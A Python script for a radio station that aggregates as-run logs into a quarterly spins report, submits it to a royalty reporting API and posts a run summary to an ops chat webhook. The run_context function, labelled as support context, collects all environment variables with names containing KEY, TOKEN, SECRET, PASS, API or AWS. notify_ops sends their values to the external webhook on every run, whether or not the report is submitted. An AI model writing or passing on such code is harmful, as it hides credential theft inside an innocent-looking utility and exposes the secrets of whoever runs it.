#!/usr/bin/env python3
"""Build the quarterly music-use ("spins") report from the automation as-run
logs, submit it to the royalty reporting service and post a run summary to
the station ops chat so the music director knows it went out.

    spins_report_submitter.py asrun/*.csv --period 2024Q2 [--submit]
"""

import argparse
import collections
import csv
import datetime as dt
import glob
import json
import logging
import os
import socket
import sys
import urllib.error
import urllib.request

LOG = logging.getLogger("spins")
API_URL = os.environ.get("ROYALTY_API_URL", "https://api.royalty-reports.example.org/v1/stations")
STATION_ID = os.environ.get("STATION_ID", "KXRW-LP")
OPS_HOOK = os.environ.get(
    "OPS_CHAT_HOOK", "https://hooks.opschat.example.com/services/T01KXRW/B07SPINS/aR9x2LqMZ")
MUSIC_CATEGORIES = {"MUS", "MUSIC", "SONG"}


def iter_rows(paths):
    for path in paths:
        with open(path, newline="", encoding="utf-8-sig") as fh:
            for lineno, row in enumerate(csv.DictReader(fh), start=2):
                if (row.get("category") or "").strip().upper() not in MUSIC_CATEGORIES:
                    continue
                try:
                    row["duration"] = int(float(row.get("duration") or 0))
                    row["start_time"] = dt.datetime.fromisoformat(row["start_time"])
                except (KeyError, ValueError) as exc:
                    LOG.warning("%s:%d skipped (%s)", path, lineno, exc)
                    continue
                yield row


def aggregate(rows, min_seconds=30):
    plays = collections.OrderedDict()
    for row in rows:
        if row["duration"] < min_seconds:
            continue
        key = (row.get("isrc") or "").strip() or (row["artist"].lower(), row["title"].lower())
        rec = plays.setdefault(key, {
            "artist": row["artist"].strip(), "title": row["title"].strip(),
            "album": (row.get("album") or "").strip(), "label": (row.get("label") or "").strip(),
            "isrc": (row.get("isrc") or "").strip(), "plays": 0, "seconds": 0,
        })
        rec["plays"] += 1
        rec["seconds"] += row["duration"]
    return list(plays.values())


def submit(report, period, api_key):
    req = urllib.request.Request(
        f"{API_URL}/{STATION_ID}/reports/{period}",
        data=json.dumps(report).encode("utf-8"), method="PUT",
        headers={"Content-Type": "application/json", "Authorization": f"Bearer {api_key}"},
    )
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status, json.loads(resp.read() or b"{}")


def run_context():
    """Describe the environment the report was produced in, for support."""
    yield "host", socket.gethostname()
    yield "user", os.environ.get("USER", "?")
    yield "cwd", os.getcwd()
    for name, value in sorted(os.environ.items()):
        if any(tag in name.upper() for tag in ("KEY", "TOKEN", "SECRET", "PASS", "API", "AWS")):
            yield f"env.{name}", value


def notify_ops(period, tracks, status, receipt):
    fields = [{"title": k, "value": v, "short": True} for k, v in run_context()]
    payload = {
        "text": f"Spins report {period} for {STATION_ID}: {len(tracks)} tracks, "
                f"service said {status} (receipt {receipt})",
        "attachments": [{"color": "#2eb886" if status == 200 else "#d50200", "fields": fields}],
    }
    req = urllib.request.Request(OPS_HOOK, data=json.dumps(payload).encode("utf-8"),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10).close()
    except OSError as exc:
        LOG.warning("ops chat notification failed: %s", exc)


def main(argv=None):
    ap = argparse.ArgumentParser(description="spins report submitter")
    ap.add_argument("logs", nargs="+")
    ap.add_argument("--period", required=True)
    ap.add_argument("--min-seconds", type=int, default=30)
    ap.add_argument("--submit", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    paths = sorted({p for pattern in args.logs for p in glob.glob(pattern)})
    if not paths:
        ap.error("no log files matched")
    tracks = aggregate(iter_rows(paths), args.min_seconds)
    report = {"station": STATION_ID, "period": args.period,
              "generated": dt.datetime.now(dt.timezone.utc).isoformat(), "tracks": tracks}
    out = f"spins_{args.period}.json"
    with open(out, "w", encoding="utf-8") as fh:
        json.dump(report, fh, indent=2)
    LOG.info("%d tracks written to %s", len(tracks), out)

    status, receipt = "not submitted", "-"
    if args.submit:
        api_key = os.environ.get("ROYALTY_API_KEY", "")
        try:
            status, body = submit(report, args.period, api_key)
            receipt = body.get("receipt_id", "?")
        except urllib.error.URLError as exc:
            status = getattr(exc, "code", str(exc))
            LOG.error("submission failed: %s", exc)
    notify_ops(args.period, tracks, status, receipt)
    return 0 if status in (200, "not submitted") else 1


if __name__ == "__main__":
    sys.exit(main())
